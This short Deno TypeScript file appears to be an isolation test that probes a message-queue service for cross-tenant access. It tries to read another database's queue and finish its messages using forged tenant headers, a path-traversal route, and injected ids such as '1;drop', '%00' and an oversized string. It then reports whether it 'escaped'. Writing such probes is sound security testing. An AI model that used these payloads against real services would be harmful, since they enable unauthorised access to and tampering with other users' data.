// Takes messages of the victim's queue, and finishes some that it was never given.
// @database
const at = JSON.parse(Deno.env.get("ATTACK")!);
const got: string[] = [];
const refused: string[] = [];
const word = [...at.victimDrow].reverse().join("");

async function ask(what: string, path: string, headers: Record<string, string> = {}) {
  try {
    const answer = await fetch(`http://queue.islet.internal${path}`, { method: "POST", headers, signal: AbortSignal.timeout(2000) });
    let told = "";
    try {
      for await (const piece of answer.body!.pipeThrough(new TextDecoderStream())) told += piece;
    } catch { /* a stream of messages does not end by itself */ }
    (told.includes(word) ? got : refused).push(`${what}: ${answer.status}`);
  } catch (error) {
    refused.push(`${what}: ${(error as Error).name}`);
  }
}

Deno.serve(async () => {
  const theirs = at.victimDatabase;
  await Promise.all([
    ask("listen", "/listen"),
    ask("listen, named", `/listen?database=${theirs}`, { "x-denokv-database-id": theirs, "x-islet-database": theirs }),
    ask("path", `/databases/${theirs}/listen`),
    ask("up", `/listen/../databases/${theirs}/listen`),
    ...["1", "-1", "9223372036854775807", "1e9", "00000000-0000-0000-0000-000000000000", theirs, "%00", "1;drop", "x".repeat(5000)].map((id) =>
      ask(`finish ${id.slice(0, 8)}`, `/finish?id=${encodeURIComponent(id)}&ok=1`)
    ),
  ]);
  return Response.json({ attack: at.name, escaped: got.length > 0, detail: got.length > 0 ? `got ${got.join(", ")}` : `refused: ${refused.join(", ")}` });
});
